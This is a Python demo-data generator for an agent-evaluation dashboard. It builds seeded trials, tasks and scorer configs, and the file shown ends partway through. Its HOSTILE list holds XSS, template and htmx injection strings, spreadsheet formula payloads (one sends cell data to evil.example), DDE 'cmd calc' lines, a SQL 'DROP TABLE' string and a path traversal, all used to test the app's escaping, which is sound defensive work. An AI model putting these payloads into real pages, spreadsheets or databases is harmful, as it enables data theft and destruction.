"""Demo data: realistic, varied and deterministic trials for the UI, the exports and `bench/`.

One generator, three outputs:

- `seed_with_writer`: `TrialBundle`s stored by the one writer (`BundleWriter.write_many`), which
  validates them and applies the seed's rules. The default for moderate sizes.
- `seed_fast`: the same trials inserted as rows directly (PostgreSQL `COPY`, `bulk_create`
  elsewhere), for a million trials. Trial *contents* come from a bounded set of archetypes (the
  first trials generated, one set per agent profile); each trial gets its own name, uid and
  times. Summary columns are computed by the domain code (`summary_of`, `rules`), never here.
- `write_harbor`: Harbor-format job folders (`result.json`, `config.json`, `agent/`,
  `verifier/`, `steps/`), for ingest tests and benchmarks.

Coverage never depends on luck: every case table below is walked in a cycle whose length is
prime to the others', so 200 trials hold every gate, validity, exception, hostile-text and
long-text case, and each pair of tables mixes. Everything is drawn from `random.Random` seeded
with `(seed, trial index)`: the same seed gives the same content, and any trial can be made on
its own (the fast path and the Harbor writer rely on that). Dates start from a fixed base; the
only wall-clock values are the database's own bookkeeping (`imported_at`, `updated_at`).
"""

from __future__ import annotations

import bisect
import csv
import hashlib
import io
import json
import math
import random
import uuid
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import yaml
from django.db import connection, models, transaction
from django.db.models import Avg, Count, Q
from django.utils import timezone

from demo.users import DEMO_REVIEWERS
from rewards import rubric, rules, schemas
from rewards.ingest.copytext import copy_escape, copy_text, json_text
from rewards.ingest.mapping import child_rows, summary_of, trial_columns_of
from rewards.ingest.writer import BundleWriter, reserve_trial_ids
from rewards.models import (
    ErrorTag,
    EvaluationResult,
    Job,
    JudgeVerdict,
    ScorerResult,
    Task,
    Trial,
    TrialDetail,
)
from rewards.schemas import DetailsFile, TaskRecord, TrialBundle

BASE_DATE = datetime(2026, 11, 2, tzinfo=UTC)
# Above this many trials the command takes the fast path: generating, validating, digesting
# and writing a full-size bundle costs ~5-7 ms a trial on PostgreSQL (about 65 s for 10,000),
# fine for a demo, slow for a benchmark database. The fast path stores the same rows.
FAST_THRESHOLD = 5_000
# Distinct trial contents per agent profile on the fast path. Large enough that the explorer
# shows thousands of different rewards and texts; small enough to build in a few seconds.
ARCHETYPES_PER_PROFILE = 512
TRIALS_PER_JOB = 10_000


class DemoError(Exception):
    """A demo run that cannot go ahead; the message is for the person who ran it."""


# --- who ran the trials -----------------------------------------------------------------------
@dataclass(frozen=True)
class AgentProfile:
    agent: str
    version: str
    model: str
    provider: str  # "" when Harbor recorded `model_info: null`
    usd_per_mtok_in: float | None  # None: the agent reports no cost (openclaw does not)
    usd_per_mtok_out: float | None


PROFILES: tuple[AgentProfile, ...] = (
    AgentProfile("claude-code", "2.1.104", "claude-sonnet-4-5", "anthropic", 3.0, 15.0),
    AgentProfile("openclaw", "OpenClaw 2026.5.22 (a374c3a)", "kimi-k2.6", "anthropic", None, None),
    AgentProfile("terminus-2", "2.0.0", "gpt-4o", "openai", 2.5, 10.0),
    AgentProfile("codex", "0.46.0", "gpt-5-codex", "openai", 1.25, 10.0),
    AgentProfile("openhands", "0.59.0", "qwen3.5-27b", "", None, None),
    AgentProfile("aider", "0.86.1", "deepseek-chat", "deepseek", 0.27, 1.1),
    AgentProfile("goose", "1.9.0", "gemini-2.5-pro", "google", 1.25, 10.0),
)
JUDGE_MODELS = ("glm-5.1", "claude-opus-4-1", "gpt-5-judge", "kimi-k2.6-judge")
FAILURE_MODES = (
    "incomplete_solution",
    "wrong_answer",
    "hallucinated_tool_output",
    "reward_hacking",
    "instruction_violation",
    "unit_mismatch",
    "gave_up_early",
    "over_refusal",
    "verification_skipped",
)

# --- hostile text ----------------------------------------------------------------------------
# Agent-controlled fields carry these so the UI and the exports are exercised (DESIGN §9):
# markup, script URLs, spreadsheet formulas (which only fire at the start of a cell, so each
# also *leads* some field), htmx attributes, template syntax, an RTL override, control
# characters. No NUL: PostgreSQL text and jsonb cannot hold it.
HOSTILE: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example/steal?c="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"><svg/onload=alert(document.domain)>',
    '<div hx-get="/admin/" hx-trigger="load" hx-target="body">htmx injection</div>',
    "{{ request.user.password }}{% debug %}",
    "[click me](javascript:alert(1))",
    "invoice_\u202egpj.exe",
    "\x1b[31mANSI red\x1b[0m and a bell\x07",
    "'; DROP TABLE rewards_trial; --",
    "../../../../etc/passwd",
)
HOSTILE_PAYLOAD = "\n".join(HOSTILE)


# --- the case tables ---------------------------------------------------------------------------
@dataclass(frozen=True)
class GateCase:
    """What the scorers and the judge say, and the disagreement the rules must name."""

    key: str
    scorers: str  # PASS | FAIL | NA (every scorer N/A) | "" (no workspace: no scorer engine)
    judge: str  # PASS | FAIL | UNPARSEABLE | "" (no judge ran)
    advisory_fail: str = ""  # type of the advisory scorer that fails
    rejudged: bool = False  # an older verdict with the other outcome comes first
    expect: str = ""


# The edge cases every demo shows; each table below spreads them evenly among ordinary
# trials, so a first look at the explorer sees what real evaluations look like (mostly valid,
# rewards spread, disagreements and broken artifacts a visible minority) and every filter
# still finds its cases.
EDGE_GATE_CASES: tuple[GateCase, ...] = (
    GateCase("agree-pass", "PASS", "PASS"),
    GateCase("advisory-skips", "PASS", "PASS", "no_new_skips", expect=rules.ADVISORY_FAIL),
    GateCase("judge-pass-scorers-fail", "FAIL", "PASS", expect=rules.JUDGE_PASS_SCORERS_FAIL),
    GateCase("scorers-pass-judge-fail", "PASS", "FAIL", expect=rules.SCORERS_PASS_JUDGE_FAIL),
    GateCase("agree-fail", "FAIL", "FAIL"),
    GateCase("judge-unparseable", "PASS", "UNPARSEABLE"),
    GateCase("ledger-pass", "", "PASS"),
    GateCase("ledger-fail", "", "FAIL"),
    GateCase("scorers-only-fail", "FAIL", ""),
    GateCase(
        "advisory-assertions",
        "PASS",
        "PASS",
        "assertions_not_weakened",
        expect=rules.ADVISORY_FAIL,
    ),
    GateCase("rejudged-to-pass", "PASS", "PASS", rejudged=True),
    GateCase("all-scorers-na", "NA", "PASS"),
    GateCase("nothing-graded", "", ""),
    GateCase("advisory-llm-judge", "PASS", "PASS", "llm_judge", expect=rules.ADVISORY_FAIL),
    GateCase("scorers-fail-judge-unparseable", "FAIL", "UNPARSEABLE"),
    GateCase(
        "rejudged-to-fail",
        "PASS",
        "FAIL",
        rejudged=True,
        expect=rules.SCORERS_PASS_JUDGE_FAIL,
    ),
    GateCase("scorers-pass-only", "PASS", ""),
    GateCase("ledger-unparseable", "", "UNPARSEABLE"),
)
ORDINARY_GATE_CASES: tuple[GateCase, ...] = (
    GateCase("agree-pass", "PASS", "PASS"),
    GateCase("agree-pass", "PASS", "PASS"),
    GateCase("agree-fail", "FAIL", "FAIL"),
    GateCase("ledger-pass", "", "PASS"),
    GateCase("agree-pass", "PASS", "PASS"),
    GateCase("ledger-fail", "", "FAIL"),
)
VALID = "valid"
EDGE_VALIDITY_CASES: tuple[str, ...] = (
    "schema_invalid",
    "unparseable",
    "output_missing",
    "verifier_missing",
    "rejected_nonzero",
    "reward_unreadable",
    "reward_no_key",
    "reward_out_of_range",
    "reward_not_number",
)
NO_EXCEPTION = ""
EDGE_EXCEPTION_CASES: tuple[str, ...] = (
    "agent_timeout_with_reward",
    "verifier_timeout",
    "reward_file_not_found",
    "nonzero_agent_exit",
    "environment_start_timeout",
    "cancelled",
    "running",
    "pending",
)


def spread[T](edges: Sequence[T], ordinary: Sequence[T], length: int) -> tuple[T, ...]:
    """A case table of `length` entries: `edges` evenly spaced, `ordinary` cycled between."""
    table = [ordinary[n % len(ordinary)] for n in range(length)]
    for j, case in enumerate(edges):
        table[j * length // len(edges)] = case
    return tuple(table)


# Table lengths are primes (see CASE_CYCLES): 10 of 29 gate cases are ordinary agreement,
# 1 in 11 results has a validity problem, 1 in 11 trials an exception.
GATE_CASES = spread(EDGE_GATE_CASES, ORDINARY_GATE_CASES, 29)
VALIDITY_CASES = spread(EDGE_VALIDITY_CASES, (VALID,), 97)
EXCEPTION_CASES = spread(EDGE_EXCEPTION_CASES, (NO_EXCEPTION,), 89)
HOSTILE_EVERY = 8
LONG_EVERY = 7
RESULT_HISTORY_EVERY = 11
CONFIDENCE_EVERY = 3
# Trial i takes entry i (plus a per-seed offset) of each table. The lengths are pairwise
# prime (a test checks it), so by the Chinese remainder theorem every pair of entries from two
# tables meets within len(a)·len(b) consecutive trials, and the longest table (97) is the
# number of trials it takes to see every case.
CASE_CYCLES = (
    len(GATE_CASES),
    len(VALIDITY_CASES),
    len(EXCEPTION_CASES),
    HOSTILE_EVERY,
    LONG_EVERY,
    RESULT_HISTORY_EVERY,
)

# Exceptions after which the verifier never wrote a reward, and those after which nothing was
# graded at all (the agent never ran, or the run was stopped).
NO_VERIFIER = frozenset(
    {
        "verifier_timeout",
        "reward_file_not_found",
        "environment_start_timeout",
        "cancelled",
        "running",
        "pending",
    }
)
NOT_GRADED = frozenset({"environment_start_timeout", "cancelled", "running", "pending"})


# --- tasks and their frozen scorers ------------------------------------------------------------
def _scorer(name: str, type_: str, required: bool | None = None, **config: Any) -> dict[str, Any]:
    # Seed 003: the required toggle "initializes from type default".
    return {
        "name": name,
        "type": type_,
        "required": rules.default_required(type_) if required is None else required,
        "config": config,
    }


# Scenarios as edited in the scenario editor; a task freezes its scenario when created.
SCENARIO_FULL: tuple[dict[str, Any], ...] = (
    _scorer("unit tests", "command", command="pytest -q", timeout_s=900),
    _scorer("stay in scope", "allowed_paths", patterns=["src/**", "tests/**", "CHANGELOG.md"]),
    _scorer("no CI or secrets edits", "forbid_paths", patterns=[".github/**", "secrets/*"]),
    _scorer("small change", "max_files_changed", limit=8),
    _scorer("no secrets in diff", "forbid_secrets"),
    _scorer("changelog entry", "file_exists", path="CHANGELOG.md"),
    _scorer("graded tests untouched", "tests_unmodified", paths=["tests/test_core.py"]),
    _scorer("scaffolding untouched", "baseline_unmodified", paths=["setup.cfg", "conftest.py"]),
    _scorer("no new skips", "no_new_skips", test_globset=["tests/**"]),
    _scorer("assertions kept", "assertions_not_weakened", test_globset=["tests/**"]),
    _scorer(
        "judge rubric",
        "llm_judge",
        rubric="Prefer the smallest diff that fixes the bug; penalise unrelated refactors.",
    ),
)
# A stricter scenario: the skip detector explicitly marked required (it then gates), and an
# llm_judge marked required (which still never gates: seed 003, "advisory only").
SCENARIO_STRICT: tuple[dict[str, Any], ...] = (
    _scorer("contract tests", "command", command="pytest -q tests/contract", timeout_s=600),
    _scorer("api paths only", "allowed_paths", patterns=["api/**", "tests/**", "report.json"]),
    _scorer("report written", "file_exists", path="report.json"),
    _scorer("no new skips (strict)", "no_new_skips", required=True),
    _scorer("assertions kept", "assertions_not_weakened"),
    _scorer("reviewer notes", "llm_judge", required=True, rubric="Breaking changes are listed."),
)
SCENARIO_LIGHT: tuple[dict[str, Any], ...] = (
    _scorer("loader tests", "command", command="python -m pytest tests/test_loader.py"),
    _scorer("no secrets in diff", "forbid_secrets"),
    _scorer("scaffolding untouched", "baseline_unmodified", paths=["pyproject.toml"]),
    _scorer("assertions kept", "assertions_not_weakened"),
)
SCENARIO_CLAW: tuple[dict[str, Any], ...] = (
    _scorer("delegation repair tests", "command", command="pytest -q", timeout_s=300),
    _scorer("small change", "max_files_changed", limit=4),
    _scorer("graded tests untouched", "tests_unmodified", paths=["tests/test_repairs.py"]),
    _scorer("no CI edits", "forbid_paths", patterns=[".github/**"]),
    _scorer("no new skips", "no_new_skips"),
    _scorer("plan quality", "llm_judge", rubric="A plan precedes edits."),
)


@dataclass(frozen=True)
class TaskTemplate:
    name: str
    source: str
    kind: str  # contract | swe | pinch | claw: decides reward file, metrics and artifacts
    instruction: str
    expected_output_path: str = ""
    output_format: str = ""
    output_schema: dict[str, Any] | None = None
    rubric_strategy: str = "weighted_mean"
    pass_threshold: float = 0.5
    scenario: tuple[dict[str, Any], ...] = ()
    dims: tuple[str, ...] = ()  # details.json dimensions, for tasks scored by the rubric
    refusal: bool = False  # the judge's expected_outcome oracle says refusing is correct
    sample: str = ""  # which output generator makes this task's answer

    @property
    def has_scorers(self) -> bool:
        return bool(self.scenario)

    @property
    def short(self) -> str:
        # Harbor truncates task names in trial folder names.
        return self.name.split("/")[-1][:32]


_NUM = {"type": "number"}
_STR = {"type": "string"}
_INT = {"type": "integer"}
TASKS: tuple[TaskTemplate, ...] = (
    TaskTemplate(
        "voltage-drop",
        "electrical",
        "contract",
        "A 230 V single-phase feeder runs 48 m in 4 mm² copper to a 32 A load. Compute the "
        "voltage drop in volts and percent and say whether it complies with a 3% limit. "
        "Write /workspace/answer.json.",
        "/workspace/answer.json",
        "json",
        {
            "type": "object",
            "required": ["voltage_drop_v", "voltage_drop_pct", "compliant"],
            "properties": {
                "voltage_drop_v": _NUM,
                "voltage_drop_pct": _NUM,
                "compliant": {"type": "boolean"},
                "notes": _STR,
            },
            "additionalProperties": False,
        },
        pass_threshold=0.8,
        dims=("voltage_drop_v", "voltage_drop_pct", "compliance"),
        sample="voltage",
    ),
    TaskTemplate(
        "breaker-sizing",
        "electrical",
        "contract",
        "Size the breaker and the conductor for a 7.2 kW, 240 V water heater, applying the "
        "ambient derating for 40 °C. Write /workspace/answer.json.",
        "/workspace/answer.json",
        "json",
        {
            "type": "object",
            "required": ["breaker_rating_a", "wire_gauge_awg", "derating_factor"],
            "properties": {
                "breaker_rating_a": _INT,
                "wire_gauge_awg": _INT,
                "derating_factor": _NUM,
                "notes": _STR,
            },
        },
        rubric_strategy="min",
        pass_threshold=0.9,
        dims=("breaker_rating_a", "wire_gauge_awg", "derating"),
        sample="breaker",
    ),
    TaskTemplate(
        "load-schedule",
        "electrical",
        "contract",
        "Produce the panel load schedule for the attached floor plan as CSV with columns "
        "circuit, load_w, phase. Write /workspace/load_schedule.csv.",
        "/workspace/load_schedule.csv",
        "csv",
        {
            "type": "array",
            "minItems": 1,
            "items": {
                "type": "object",
                "required": ["circuit", "load_w", "phase"],
                "properties": {"load_w": {"type": "string", "pattern": "^[0-9]+$"}},
            },
        },
        pass_threshold=0.7,
        dims=("circuits_listed", "loads_correct", "phase_balance"),
        sample="schedule",
    ),
    TaskTemplate(
        "refuse-live-panel-work",
        "electrical",
        "contract",
        "The homeowner asks for step-by-step instructions to replace a breaker in a live "
        "panel without turning off the main. Answer in /workspace/response.md.",
        "/workspace/response.md",
        "text",
        refusal=True,
        pass_threshold=0.5,
        sample="refusal",
    ),
    TaskTemplate(
        "pyutils__line_profiler.a646bf0f.func_pm_ctrl_shuffle__cp1dr0aq",
        "swesmith-train",
        "swe",
        "The line profiler reports timings for the wrong lines after a recent refactor. "
        "Fix the bug so the tests in tests/test_core.py pass. Do not edit the tests.",
        pass_threshold=1.0,
        scenario=SCENARIO_FULL,
    ),
    TaskTemplate(
        "mozilla__bleach.73871d76.func_basic__kwVZBCH",
        "swesmith-train",
        "swe",
        "bleach.clean() lets an attribute with an upper-case event handler through. Fix "
        "the sanitiser; keep the public API unchanged.",
        pass_threshold=1.0,
        scenario=SCENARIO_FULL,
    ),
    TaskTemplate(
        "api-report-migration",
        "swe",
        "swe",
        "Migrate the v1 endpoints to the v2 router, keep the contract tests green and "
        "write a migration report to /workspace/report.json.",
        "/workspace/report.json",
        "json",
        {
            "type": "object",
            "required": ["endpoints_migrated", "breaking_changes", "summary"],
            "properties": {
                "endpoints_migrated": _INT,
                "breaking_changes": {"type": "array", "items": _STR},
                "summary": _STR,
            },
        },
        pass_threshold=0.75,
        scenario=SCENARIO_STRICT,
        sample="report",
    ),
    TaskTemplate(
        "config-loader-toml",
        "swe",
        "swe",
        "Make the service read its settings from TOML and write the resolved settings to "
        "/workspace/settings.toml.",
        "/workspace/settings.toml",
        "toml",
        {
            "type": "object",
            "required": ["service"],
            "properties": {
                "service": {
                    "type": "object",
                    "required": ["name", "port", "debug"],
                    "properties": {"name": _STR, "port": _INT, "debug": {"type": "boolean"}},
                }
            },
        },
        pass_threshold=0.6,
        scenario=SCENARIO_LIGHT,
        sample="settings",
    ),
    TaskTemplate(
        "clawbench/t4-delegation-repair",
        "clawbench",
        "claw",
        "Delegate the failing-test triage to a sub-agent, repair monthly_total() and "
        "subject_for(), and log your plan to /workspace/plan.jsonl.",
        "/workspace/plan.jsonl",
        "jsonl",
        {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["step", "action"],
                "properties": {"step": _INT, "action": _STR, "target": _STR},
            },
        },
        pass_threshold=0.5,
        scenario=SCENARIO_CLAW,
        sample="plan",
    ),
    TaskTemplate(
        "pinchbench/task-calendar",
        "pinchbench",
        "pinch",
        'Schedule a meeting for next Tuesday at 3pm with john@example.com. Title it "Project '
        'Sync" and add a note about discussing the Q1 roadmap. Write an ICS file.',
        "/app/events/project-sync.ics",
        "text",
        pass_threshold=0.5,
        sample="ics",
    ),
    TaskTemplate(
        "pinchbench/task-log-hdfs-block-ops",
        "pinchbench",
        "pinch",
        "Read the HDFS logs in /data/logs, count unique blocks and operations per type, "
        "trace one block's lifecycle and write /workspace/report.yaml.",
        "/workspace/report.yaml",
        "yaml",
        {
            "type": "object",
            "required": ["unique_blocks", "operations", "job_id"],
            "properties": {
                "unique_blocks": _INT,
                "operations": {"type": "object"},
                "job_id": _STR,
            },
        },
        pass_threshold=0.6,
        sample="hdfs",
    ),
)


def _task_record(template: TaskTemplate, seed: int) -> TaskRecord:
    checksum = hashlib.sha256(f"{seed}:{template.source}/{template.name}".encode()).hexdigest()
    reward_file = "reward.txt" if template.kind == "swe" and not template.output_format else ""
    return TaskRecord(
        name=template.name,
        source=template.source,
        checksum=checksum,
        instruction=template.instruction,
        verifier_script="tests/test.sh",
        expected_output_path=template.expected_output_path,
        reward_path=f"/logs/verifier/{reward_file or 'reward.json'}",
        details_path="/logs/verifier/details.json" if template.dims else "",
        output_format=template.output_format,
        output_schema=template.output_schema,
        rubric_strategy=template.rubric_strategy,
        pass_threshold=template.pass_threshold,
        scorer_specs=[dict(spec) for spec in template.scenario],
    )


MIN_JOBS = len(PROFILES)  # every agent profile shows up, however small the demo


def _iso(value: datetime) -> str:
    """Harbor's spelling of an aware time: ISO 8601 with a `Z`."""
    return value.astimezone(UTC).isoformat().replace("+00:00", "Z")


# --- plan: jobs and trial identities -----------------------------------------------------------
@dataclass(frozen=True)
class JobPlan:
    index: int
    name: str
    profile_index: int
    started_at: datetime
    first_trial: int
    n_trials: int

    @property
    def profile(self) -> AgentProfile:
        return PROFILES[self.profile_index]

    @property
    def finished_at(self) -> datetime:
        return _slot_time(self.started_at, self.n_trials) + timedelta(minutes=20)

    @property
    def dataset_sources(self) -> list[str]:
        return sorted({t.source for t in TASKS})

    def config(self) -> dict[str, Any]:
        """Harbor's JobConfig, trimmed to what a reader of the job page cares about."""
        profile = self.profile
        return {
            "job_name": self.name,
            "jobs_dir": "jobs",
            "n_attempts": 1,
            "timeout_multiplier": 1.0,
            "orchestrator": {"type": "local", "n_concurrent_trials": CONCURRENCY},
            "agents": [
                {
                    "name": profile.agent,
                    "model_name": _qualified_model(profile),
                    "kwargs": {"version": profile.version},
                }
            ],
            "datasets": [{"path": f"datasets/{source}"} for source in self.dataset_sources],
        }


CONCURRENCY = 8


def _slot_time(job_start: datetime, position: int) -> datetime:
    # Harbor runs CONCURRENCY trials at a time; a new one starts every ~97 s per lane.
    lane = position % CONCURRENCY
    return job_start + timedelta(seconds=(position // CONCURRENCY) * 97 + lane * 3)


def _qualified_model(profile: AgentProfile) -> str:
    return f"{profile.provider}/{profile.model}" if profile.provider else profile.model


_BASE62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
_SUFFIX_SPACE = 62**7


class DemoPlan:
    """Jobs, tasks and per-trial identities for one `(seed, trials, jobs)`."""

    def __init__(self, *, seed: int, trials: int, jobs: int | None = None) -> None:
        if trials < 1:
            raise DemoError("--trials must be at least 1")
        if jobs is not None and jobs < 1:
            raise DemoError("--jobs must be at least 1")
        self.seed = seed
        self.trials = trials
        n_jobs = jobs or max(MIN_JOBS, math.ceil(trials / TRIALS_PER_JOB))
        n_jobs = min(n_jobs, trials)
        # The plan (job names, name suffixes, uids) is keyed by the whole run, so the same
        # seed at another size makes a disjoint set of jobs and uids instead of moving trials
        # between jobs of an earlier run.
        self._key = f"{seed}:{trials}:{n_jobs}"
        # Demo content, not secrets: a seeded PRNG is the point (same seed, same data).
        rng = random.Random(f"trialdesk-demo:{self._key}:plan")
        profile_offset = rng.randrange(len(PROFILES))
        self.jobs: list[JobPlan] = []
        for index in range(n_jobs):
            first = index * trials // n_jobs
            last = (index + 1) * trials // n_jobs
            # Nightly runs: one a day, at a seeded time, named the way Harbor names job folders.
            started = BASE_DATE + timedelta(
                days=index, hours=rng.randrange(0, 6), minutes=rng.randrange(60)
            )
            started += timedelta(seconds=rng.randrange(60))
            self.jobs.append(
                JobPlan(
                    index=index,
                    name=started.strftime("%Y-%m-%d__%H-%M-%S"),
                    profile_index=(index + profile_offset) % len(PROFILES),
                    started_at=started,
                    first_trial=first,
                    n_trials=last - first,
                )
            )
        self._job_starts = [job.first_trial for job in self.jobs]
        self.tasks: list[TaskRecord] = [_task_record(t, seed) for t in TASKS]
        # Name suffixes: i ↦ (a·i + b) mod 62⁷ is a bijection (a is prime to 62), so names
        # are unique within a seed and look like Harbor's random ones.
        self._suffix_mul = rng.randrange(1, _SUFFIX_SPACE) | 1
        while self._suffix_mul % 31 == 0:
            self._suffix_mul += 2
        self._suffix_add = rng.randrange(_SUFFIX_SPACE)
        self._case_offsets = [rng.randrange(1000) for _ in range(3)]

    def job_of(self, i: int) -> JobPlan:
        return self.jobs[bisect.bisect_right(self._job_starts, i) - 1]

    def suffix(self, i: int) -> str:
        n = (i * self._suffix_mul + self._suffix_add) % _SUFFIX_SPACE
        chars = []
        for _ in range(7):
            n, digit = divmod(n, 62)
            chars.append(_BASE62[digit])
        return "".join(chars)

    def uid(self, i: int) -> uuid.UUID:
        digest = hashlib.blake2b(f"{self._key}:{i}".encode(), digest_size=16).digest()
        return uuid.UUID(bytes=digest, version=4)

    def slot(self, i: int) -> datetime:
        job = self.job_of(i)
        return _slot_time(job.started_at, i - job.first_trial)

    def trial_name(self, i: int, task: TaskTemplate | TaskRecord) -> str:
        short = task.short if isinstance(task, TaskTemplate) else task.name.split("/")[-1][:32]
        return f"{short}__{self.suffix(i)}"

    def cases(self, i: int) -> tuple[GateCase, str, str]:
        g, v, e = self._case_offsets
        return (
            GATE_CASES[(i + g) % len(GATE_CASES)],
            VALIDITY_CASES[(i + v) % len(VALIDITY_CASES)],
            EXCEPTION_CASES[(i + e) % len(EXCEPTION_CASES)],
        )


# --- one trial ---------------------------------------------------------------------------------
@dataclass
class HarborHints:
    """What only the Harbor writer needs: how the verifier's files looked on disk."""

    reward_file: str = "reward.json"  # reward.json | reward.txt | "" (never written)
    reward_raw: bytes | None = None
    details_raw: bytes | None = None
    steps: list[tuple[str, float]] = field(default_factory=list)  # multi-step: name, reward
    model_info_null: bool = False
    naive_times: bool = False
    extra_keys: bool = False


@dataclass
class DemoTrial:
    index: int
    bundle: TrialBundle
    harbor: HarborHints
    gate: GateCase
    validity: str
    exception: str
    hostile: bool
    long: bool


@dataclass
class _Ctx:
    i: int
    rng: random.Random
    plan: DemoPlan
    job: JobPlan
    profile: AgentProfile
    task: TaskTemplate
    gate: GateCase
    validity: str
    exception: str
    hostile: bool
    lead: str
    long: bool
    compact: bool
    check_outputs: bool
    quality: float
    failing: list[str] = field(default_factory=list)  # scorer types that FAIL
    start: datetime = BASE_DATE

    def text(self, plain: str) -> str:
        """Agent-controlled text: hostile trials lead with a hostile string."""
        if not self.hostile:
            return plain
        return f"{self.lead} {plain}\n{HOSTILE_PAYLOAD}"

    def long_line(self, unit: str) -> str:
        size = 2_000 if self.compact else 40_000
        return (unit * (size // len(unit) + 1))[:size]


class DemoGenerator:
    """Makes trial `i` of a plan; `compact` keeps blobs small for the million-row fast path."""

    def __init__(
        self, plan: DemoPlan, *, compact: bool = False, check_outputs: bool = True
    ) -> None:
        self.plan = plan
        self.compact = compact
        # jsonschema costs ~2 ms a call; Harbor folders record no validity, so skip it there.
        self.check_outputs = check_outputs

    def trial(self, i: int) -> DemoTrial:
        plan = self.plan
        # One generator per trial, so any trial can be made alone (fast path, Harbor writer).
        rng = random.Random(f"trialdesk-demo:{plan.seed}:{i}")
        job = plan.job_of(i)
        gate, validity, exception = plan.cases(i)
        if exception in NO_VERIFIER:
            validity = "verifier_missing"
        if exception in NOT_GRADED:
            gate = GateCase("not-graded", "", "")
        task = self._choose_task(rng, gate, validity)
        hostile = i % HOSTILE_EVERY == 0
        long = i % LONG_EVERY == 3
        if gate.judge == "PASS" or (gate.judge == "" and gate.scorers == "PASS"):
            quality = rng.uniform(0.72, 1.0)
        elif gate.judge == "FAIL":
            quality = rng.uniform(0.0, 0.55)
        else:
            quality = rng.uniform(0.15, 0.95)
        ctx = _Ctx(
            i=i,
            rng=rng,
            plan=plan,
            job=job,
            profile=job.profile,
            task=task,
            gate=gate,
            validity=validity,
            exception=exception,
            hostile=hostile,
            lead=HOSTILE[(i // HOSTILE_EVERY) % len(HOSTILE)],
            long=long,
            compact=self.compact,
            check_outputs=self.check_outputs,
            quality=quality,
            start=plan.slot(i),
        )
        scorers = _scorers(ctx)
        judges = _judge_verdicts(ctx)
        results, hints = _results(ctx)
        trial = _trial_record(ctx, results[-1])
        tags = _error_tags(ctx, results[-1])
        data = {
            "job": {
                "name": job.name,
                "started_at": job.started_at,
                "finished_at": job.finished_at,
                "config": job.config(),
                "stats": {},
            },
            "task": plan.tasks[TASKS.index(task)].model_dump(),
            "trial": trial,
            "results": results,
            "scorers": scorers,
            "judge_verdicts": judges,
            "error_tags": tags,
        }
        bundle = TrialBundle.model_validate(data)
        if not self.compact:
            seen = summary_of(bundle, bundle.current_result.checked())
            bundle.annotations = [
                schemas.Annotation.model_validate(note) for note in _annotations(ctx, seen)
            ]
        # Harbor leaves model_info null for some agents whatever the provider.
        hints.model_info_null = not ctx.profile.provider or i % 9 == 4
        hints.naive_times = job.index % 3 == 2
        hints.extra_keys = i % 4 == 1
        if task.kind == "claw":
            hints.steps = _claw_steps(ctx, bundle)
        self._sanity_check(ctx, bundle)
        return DemoTrial(i, bundle, hints, gate, validity, exception, hostile, long)

    def bundles(self, indices: Iterable[int]) -> Iterator[TrialBundle]:
        for i in indices:
            yield self.trial(i).bundle

    # -- choices -------------------------------------------------------------------------------
    @staticmethod
    def _choose_task(rng: random.Random, gate: GateCase, validity: str) -> TaskTemplate:
        needs_scorers = gate.scorers != ""
        needs_schema = validity in {"schema_invalid", "unparseable", "rejected_nonzero"}
        needs_output = validity == "output_missing"
        candidates = [
            t
            for t in TASKS
            if t.has_scorers == needs_scorers
            and (t.output_schema is not None or not needs_schema)
            and (t.expected_output_path or not needs_output)
        ]
        return rng.choice(candidates)

    @staticmethod
    def _sanity_check(ctx: _Ctx, bundle: TrialBundle) -> None:
        """The generator meant a case; the domain rules must agree, or the demo lies."""
        checked = bundle.current_result.checked()
        summary = summary_of(bundle, checked)
        gate = ctx.gate
        if gate.scorers in {"PASS", "NA"} and summary.scorer_verdict != rules.PASS:
            raise AssertionError(f"trial {ctx.i}: meant scorers PASS for {gate.key}")
        if gate.scorers == "FAIL" and summary.scorer_verdict != rules.FAIL:
            raise AssertionError(f"trial {ctx.i}: meant scorers FAIL for {gate.key}")
        if summary.judge_verdict != gate.judge:
            raise AssertionError(f"trial {ctx.i}: meant judge {gate.judge} for {gate.key}")
        if summary.gate_disagreement != gate.expect:
            raise AssertionError(
                f"trial {ctx.i}: meant disagreement {gate.expect!r} for {gate.key}, "
                f"the rules say {summary.gate_disagreement!r}"
            )
        validity = checked.validity
        expected_valid = ctx.validity == VALID
        if summary.is_valid != expected_valid:
            raise AssertionError(f"trial {ctx.i}: validity case {ctx.validity} came out wrong")
        if ctx.validity == "rejected_nonzero" and (
            bundle.current_result.reward == 0 or checked.reward != 0 or validity.output_parseable
        ):
            raise AssertionError(f"trial {ctx.i}: meant a rejected non-zero reward")


# --- annotations ---------------------------------------------------------------------------------
# The review app attributes a bundle's annotations by username, so `make run` shows them as
# the demo users' reviews (`manage.py demo_users` creates them).


def _annotations(ctx: _Ctx, seen: rules.TrialSummary) -> list[dict[str, Any]]:
    """A quarter of the trials reviewed: mostly agreeing, some disagreeing, some deferred."""
    if ctx.i % 4 != 1:
        return []
    automated = "pass" if rules.automated_pass(seen.reward, ctx.task.pass_threshold) else "fail"
    other = "fail" if automated == "pass" else "pass"
    notes = []
    for n, (username, discipline) in enumerate(DEMO_REVIEWERS[: 1 + (ctx.i % 8 == 1)]):
        judgment = (automated, automated, other, "defer")[(ctx.i // 4 + n) % 4]
        notes.append(
            {
                "reviewer_id": username,
                "reviewer_discipline": discipline or None,
                "timestamp": ctx.start + timedelta(days=1, minutes=n),
                "judgment": judgment,
                "categories": ["spot check"] if judgment == automated else ["needs a look"],
                "notes": f"{ctx.lead} checked by hand" if ctx.hostile else "checked by hand",
                "reward_seen": seen.reward,
                "judge_verdict_seen": seen.judge_verdict,
            }
        )
    return notes


# --- scorers -----------------------------------------------------------------------------------
_NA_PRONE = frozenset(
    {"tests_unmodified", "no_new_skips", "assertions_not_weakened", "file_exists", "llm_judge"}
)


def _scorers(ctx: _Ctx) -> list[dict[str, Any]]:
    gate, specs = ctx.gate, ctx.task.scenario
    if not gate.scorers:
        return []
